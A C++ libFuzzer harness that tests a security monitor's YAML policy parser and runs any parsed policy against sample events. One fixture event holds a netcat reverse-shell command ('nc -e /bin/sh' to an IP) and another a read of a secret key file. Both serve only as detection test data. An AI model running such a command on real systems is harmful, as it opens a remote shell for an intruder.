// The policy parser on arbitrary YAML: it either returns a policy or errors that each name a
// position inside the input; it never crashes, hangs or throws. A policy that parses is then
// evaluated against a few events, which runs every compiled glob, CIDR and list.
#include <cstdint>
#include <cstdlib>
#include <string_view>
#include <vector>

#include "core/event.hpp"
#include "policy/policy.hpp"

namespace {

using ringside::Event;
using ringside::EventType;
using ringside::Field;

std::vector<Event> sample_events() {
  std::vector<Event> out;
  Event exec(EventType::kProcessExec, 1);
  exec.set(Field::kProcessExecutable, "/tmp/x/nc");
  exec.set(Field::kProcessArgs, {"nc", "-e", "/bin/sh", "10.0.0.1"});
  exec.set(Field::kProcessPid, int64_t{42});
  exec.set(Field::kUserId, int64_t{1000});
  out.push_back(exec);
  Event open(EventType::kFileOpen, 2);
  open.set(Field::kFilePath, "/srv/secret/key");
  open.set(Field::kProcessExecutable, "/usr/bin/cat");
  out.push_back(open);
  Event connect(EventType::kNetworkConnect, 3);
  connect.set(Field::kDestinationIp, "2001:db8::1");
  connect.set(Field::kDestinationPort, int64_t{9999});
  out.push_back(connect);
  return out;
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  static const std::vector<Event> events = sample_events();
  const std::string_view yaml(reinterpret_cast<const char*>(data), size);
  std::vector<ringside::policy::ParseError> errors;
  auto parsed = ringside::policy::Policy::parse(yaml, "fuzz.yaml", &errors);
  if (!parsed) {
    if (errors.empty()) std::abort();  // a refusal must say why
    for (const auto& e : errors) {
      if (e.message.empty() || e.to_string().find("fuzz.yaml:") != 0) std::abort();
    }
    return 0;
  }
  for (const Event& ev : events) {
    for (auto level : {ringside::Level::kKernel, ringside::Level::kUser}) {
      (void)(*parsed)->evaluate(ev, level);
    }
  }
  return 0;
}
